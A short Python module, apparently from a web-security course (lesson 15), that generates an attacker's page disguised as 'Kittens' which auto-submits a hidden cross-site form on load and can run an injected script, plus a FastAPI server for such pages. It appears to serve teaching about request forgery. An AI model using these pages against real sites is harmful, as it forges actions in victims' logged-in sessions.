"""The attacker's pages: forms that send themselves, a frame, a script (lesson 15)."""

from collections.abc import Mapping
from html import escape

from fastapi import FastAPI
from fastapi.responses import HTMLResponse


def forged_form(action: str, *, script: str = "", **fields: str) -> str:
    """Return a page that sends a form as soon as somebody opens it, and runs a script before."""
    inputs = "".join(
        f'<input type="hidden" name="{name}" value="{escape(v)}">\n' for name, v in fields.items()
    )
    return f"""<!doctype html>
<title>Kittens</title>
<h1>Kittens</h1>
<form method="post" action="{action}">
{inputs}</form>
<script>{script}document.forms[0].submit()</script>"""


def evil_app(pages: Mapping[str, str]) -> FastAPI:
    """Serve pages by their paths; what is added later is served too."""
    app = FastAPI(openapi_url=None)

    @app.get("/{path}")
    async def page(path: str) -> HTMLResponse:
        return HTMLResponse(pages.get(path, ""), 200 if path in pages else 404)

    return app
